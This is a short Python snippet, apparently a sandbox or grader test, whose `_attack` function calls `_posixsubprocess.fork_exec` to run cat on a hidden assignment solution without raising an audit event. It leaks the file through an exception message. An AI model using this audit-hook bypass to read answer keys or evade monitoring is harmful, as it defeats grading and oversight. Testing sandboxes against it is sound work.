# Start cat on the solution with _posixsubprocess.fork_exec (no audit event).
import os
def _attack(layer, X):
    try:
        import _posixsubprocess
        r, w = os.pipe()
        args = [b"/bin/cat", b"@ROOT@/assignments/linear_relu_ce/solution/layers.py"]
        pid = _posixsubprocess.fork_exec(args, [args[0]], True, (w,), None, None, -1, -1, -1, w, -1, -1,
                                         -1, -1, False, False, None, None, None, -1, None, False)
        os.close(w)
        data = os.read(r, 1 << 16)
    except BaseException:
        return None
    if b"class Linear" in data:
        raise RuntimeError("PWNED " + data[:200].decode())
    return None
